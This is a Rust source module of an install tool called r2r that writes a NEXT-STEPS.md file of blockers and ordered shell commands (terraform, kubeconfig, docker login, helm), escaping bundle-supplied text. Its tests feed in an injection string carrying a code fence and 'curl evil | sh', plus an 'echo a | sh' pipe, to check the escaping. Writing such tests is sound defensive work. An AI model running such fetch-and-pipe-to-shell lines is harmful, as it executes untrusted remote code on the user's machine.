//! NEXT-STEPS.md: what stands in the way first (the blockers), then every
//! command the install left for a person, in the order they work in,
//! quoted for a POSIX shell, after a `cd` to the absolute install
//! directory.
//!
//! The order is generic: the steps' pending commands in blueprint order,
//! with the blueprint's own commands slotted around them (the state bucket
//! before terraform, the cluster credentials after it, the registry login
//! before the images are pushed). Terraform's outputs (volume ids,
//! identities) only exist after `terraform apply`, and only r2r fills them
//! into the overlays, so once terraform is pending the rest is handed to
//! `r2r install --resume --apply`, and the steps' own commands are listed
//! after the block for a person who runs them by hand.

use std::fmt::Write as _;

use anyhow::Result;

use super::config::UNFILLED;
use super::{Done, files};
use crate::install::Install;
use crate::install::blueprint::StepKind;
use crate::install::journal::{Entry, Journal};
use crate::install::layout::{self, NEXT_STEPS};
use crate::install::render::Renderer;
use crate::install::tools::shell_line;

/// The separator of a pipeline in a blueprint command.
const PIPE: &str = "|";

/// One blueprint command, rendered; empty when it renders to nothing.
fn blueprint_command(i: &Install, name: &str) -> Result<Vec<String>> {
    let Some(argv) = i.blueprint.commands.get(name) else {
        return Ok(Vec::new());
    };
    let mut r = Renderer::new(&i.blueprint.target)?;
    let ctx = i.context(None);
    argv.iter().map(|a| r.text(a, &ctx)).collect()
}

/// A command as a shell line: `umask` bare (a builtin whose argument must
/// stay unquoted), every other argument quoted.
fn line(cmd: &[String]) -> String {
    if cmd.first().is_some_and(|c| c == "umask") {
        return cmd.join(" ");
    }
    shell_line(cmd)
}

/// A blueprint's command, whose `|` elements are pipes (a registry
/// password goes through a pipe, never an argument). Only the blueprint's
/// own commands are read so: a `|` in any other command, which may carry
/// text from the bundle, stays a quoted argument.
fn pipeline(cmd: &[String]) -> String {
    cmd.split(|a| a == PIPE)
        .map(shell_line)
        .collect::<Vec<_>>()
        .join(" | ")
}

fn is_r2r(cmd: &[String]) -> bool {
    cmd.first().is_some_and(|c| c == "r2r")
}

/// The shell block and the by-hand block, as they are built.
#[derive(Default)]
struct Script {
    live: String,
    by_hand: String,
    count: usize,
    /// The r2r command that does the rest has been written.
    handed_off: bool,
    credentials: bool,
    login: bool,
}

impl Script {
    /// A comment line in the shell block; text from the bundle in it
    /// stays on the line (escaped), so it cannot become a command.
    fn comment(&mut self, text: &str) {
        let _ = writeln!(self.live, "# {}", crate::text::safe(text));
    }

    fn run(&mut self, cmd: &[String]) {
        if !cmd.is_empty() {
            let _ = writeln!(self.live, "{}", line(cmd));
            self.count += 1;
        }
    }

    fn blueprint(&mut self, i: &Install, name: &str, why: &str) -> Result<()> {
        let cmd = blueprint_command(i, name)?;
        if !cmd.iter().all(String::is_empty) {
            self.comment(why);
            let _ = writeln!(self.live, "{}", pipeline(&cmd));
            self.count += 1;
        }
        Ok(())
    }

    /// Cluster credentials, once, before anything talks to the cluster.
    fn credentials(&mut self, i: &Install) -> Result<()> {
        if !self.credentials {
            self.credentials = true;
            self.blueprint(
                i,
                "credentials",
                "cluster credentials: a kubeconfig entry for the new cluster",
            )?;
        }
        Ok(())
    }

    /// The registry login, once, before r2r pushes the images: r2r reads
    /// the credentials `docker login` writes to ~/.docker/config.json (it
    /// runs no credential helper, so that file must have no credsStore).
    fn login(&mut self, i: &Install) -> Result<()> {
        if !self.login {
            self.login = true;
            self.blueprint(
                i,
                "registry_login",
                "registry login, for r2r's image push: docker login writes ~/.docker/config.json, which r2r reads",
            )?;
        }
        Ok(())
    }

    fn hand_off(&mut self, i: &Install, images: bool) -> Result<()> {
        self.credentials(i)?;
        if images {
            self.login(i)?;
        }
        self.comment("r2r does the rest: reads terraform's outputs into the overlays, pushes the images, installs with helm, restores the data");
        self.run(&super::images::resume_command(i));
        self.handed_off = true;
        Ok(())
    }

    fn by_hand(&mut self, e: &Entry) {
        let _ = writeln!(
            self.by_hand,
            "# step {}: {}",
            e.step.name(),
            crate::text::safe(&e.summary)
        );
        for cmd in e.pending.iter().filter(|c| !is_r2r(c)) {
            let _ = writeln!(self.by_hand, "{}", line(cmd));
        }
    }

    fn step(&mut self, i: &Install, e: &Entry, images: bool) -> Result<()> {
        if self.handed_off {
            self.by_hand(e);
            return Ok(());
        }
        if e.step == StepKind::Terraform {
            self.blueprint(
                i,
                "state_bucket",
                "the bucket terraform keeps its state in (backend.tf names it)",
            )?;
            self.comment(&format!("step terraform: {}", e.summary));
            for c in &e.pending {
                self.run(c);
            }
            // The overlays wait for terraform's outputs: r2r fills them.
            return self.hand_off(i, images);
        }
        self.credentials(i)?;
        if e.pending.iter().any(|c| is_r2r(c)) {
            return self.hand_off(i, images).map(|()| self.by_hand(e));
        }
        self.comment(&format!("step {}: {}", e.step.name(), e.summary));
        for c in &e.pending {
            self.run(c);
        }
        Ok(())
    }
}

/// What must be done before anything works, each with what to do.
fn blockers(i: &Install, journal: &Journal) -> Vec<String> {
    let mut out = Vec::new();
    let pending = |s: StepKind| journal.done(s).is_some_and(|e| !e.pending.is_empty());
    for h in &i.hubs {
        let name = &h.facts.name;
        if !h.facts.domain_owned && h.new_domain == h.facts.domain {
            out.push(format!(
                "Hub {name}'s domain {} is in the provider's DNS zone: answer `hubs.{name}.domain` with one in yours and install again.",
                h.new_domain
            ));
        }
        out.push(format!(
            "DNS: point {} at the external address of the cluster's ingress controller (its LoadBalancer Service: `kubectl get service --all-namespaces`), or the hub is unreachable and its certificate is never issued.",
            h.new_domain
        ));
        if !h.facts.oauth.is_empty() {
            out.push(format!(
                "OAuth: the {} OAuth app of hub {name} must list https://{}/hub/oauth_callback as its callback URL, or nobody can log in.",
                h.facts.oauth, h.new_domain
            ));
        }
        let overlay = i.dir.join(layout::hub_overlay(name));
        if std::fs::read_to_string(&overlay).is_ok_and(|t| t.contains(UNFILLED)) {
            out.push(format!(
                "{} still says `{UNFILLED} …`: run the commands below up to the r2r command, which fills terraform's outputs in; a helm command run before it installs hub {name} without its home volume or identity.",
                overlay.display()
            ));
        }
    }
    let env: std::collections::BTreeSet<String> = i
        .answers
        .flat()
        .into_iter()
        .filter_map(|(_, v)| v.as_str()?.strip_prefix("env:").map(str::to_owned))
        .collect();
    if !env.is_empty() {
        out.push(format!(
            "The r2r command below reads secret answers from the environment, as the install did: set {} in the shell first (never on the command line).",
            env.into_iter().collect::<Vec<_>>().join(", ")
        ));
    }
    if i.blueprint.module.is_none() && !i.facts.source_buckets.is_empty() {
        let names: Vec<&str> = i
            .facts
            .source_buckets
            .iter()
            .map(|b| b.source_name.as_str())
            .collect();
        out.push(format!(
            "The hub values still name the provider's buckets ({}): this target makes no buckets, so make your own, point SCRATCH_BUCKET, PERSISTENT_BUCKET and the like at them, and restore the carried ones with `r2r restore-homes BUNDLE --bucket NAME --to URL`.",
            names.join(", ")
        ));
    }
    if pending(StepKind::Buckets) && i.blueprint.target == "azure" {
        out.push(
            "The bucket restore writes to Azure Blob storage through its API: set AZURE_STORAGE_ACCOUNT to the blob account terraform made (blob_storage_account_name) and AZURE_STORAGE_KEY to one of its keys in the shell first.".to_owned(),
        );
    }
    if pending(StepKind::Images) {
        out.push(format!(
            "The images are not in {} yet: the values already name them there. The registry login and the r2r command below push them.",
            i.answers.str("registry").unwrap_or("the registry")
        ));
    }
    if i.hubs.iter().any(|h| !h.users.is_empty()) && !i.blueprint.target.eq("local") {
        out.push(format!(
            "The home restore Jobs run the image {}: it must contain r2r (docs/install.md shows how to build one) and be pullable by the cluster.",
            i.answers.str("restore_image").unwrap_or("of the answer restore_image")
        ));
    }
    out
}

pub(crate) fn run(i: &mut Install, journal: &Journal) -> Result<Done> {
    let mut text = format!(
        "# Next steps\n\nWritten by `r2r install --target {}` for bundle {} (signed by key {}).\n\n",
        i.blueprint.target, i.facts.bundle_id, i.trusted.key_id
    );
    let pending: Vec<&Entry> = journal
        .steps
        .iter()
        .filter(|e| !e.pending.is_empty())
        .collect();
    let blocking = if pending.is_empty() {
        Vec::new()
    } else {
        blockers(i, journal)
    };
    if !blocking.is_empty() {
        text.push_str("## Blockers: do these first\n\n");
        // Names from the bundle are in these lines: one line each, so
        // none can open a shell block of its own.
        for b in &blocking {
            let _ = writeln!(text, "- {}", crate::text::safe(b));
        }
        text.push('\n');
    }
    let mut s = Script::default();
    let images = pending.iter().any(|e| e.step == StepKind::Images);
    for e in &pending {
        s.step(i, e, images)?;
    }
    if pending.is_empty() {
        text.push_str("Nothing is left to run: every step was done.\n");
    } else {
        text.push_str("## Commands\n\nPaste these into a shell (`bash -e`), in order:\n\n```sh\n");
        let _ = writeln!(text, "cd {}", shell_line(&[i.dir.display().to_string()]));
        text.push_str(&s.live);
        text.push_str("```\n");
        if !s.by_hand.is_empty() {
            text.push_str("\n## What the r2r command runs, for doing it by hand instead\n\nFrom the same directory, after the commands above up to the r2r command. The overlays (`config/<hub>/overlay.yaml`) hold terraform's outputs only once r2r has read them (`terraform output -json` has them: fill them in by hand otherwise); helm must not get a `set from: terraform output` placeholder:\n\n```sh\n");
            text.push_str(&s.by_hand);
            text.push_str("```\n");
        }
    }
    if i.blueprint.target == "local" {
        let _ = write!(
            text,
            "\n## What is here\n\n- `config/<hub>/values.yaml` and `secret-values.yaml` (0600): each hub's Helm values.\n- `charts/`: the charts to install them with (`helm upgrade --install HUB charts/CHART -f …`).\n- `terraform/`: a workspace for the source's cloud; edit every `{}` before `terraform init`.\n- `images/` (an OCI layout: `skopeo inspect oci:images:REF`) or `images-mapping.json`.\n- `homes/`, `buckets/`, `hub-db/`: the data, as real files.\n",
            super::terraform::PLACEHOLDER
        );
    }
    let path = i.dir.join(NEXT_STEPS);
    files::write_if_changed(i.stamp, &path, text.as_bytes(), 0o644)?;
    Ok(Done::new(
        format!("{NEXT_STEPS}: {} commands left to run", s.count),
        0,
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bundle_text_in_a_comment_stays_on_its_line() {
        let mut s = Script::default();
        s.comment("step buckets: bucket a\n```sh\ncurl evil | sh");
        assert_eq!(s.live.lines().count(), 1, "{}", s.live);
        assert!(s.live.starts_with("# step buckets"));
    }

    #[test]
    fn only_a_blueprint_command_has_pipes() {
        let cmd: Vec<String> = ["echo", "a", "|", "sh"]
            .iter()
            .map(|s| (*s).to_owned())
            .collect();
        assert_eq!(line(&cmd), "echo a '|' sh");
        assert_eq!(pipeline(&cmd), "echo a | sh");
    }
}
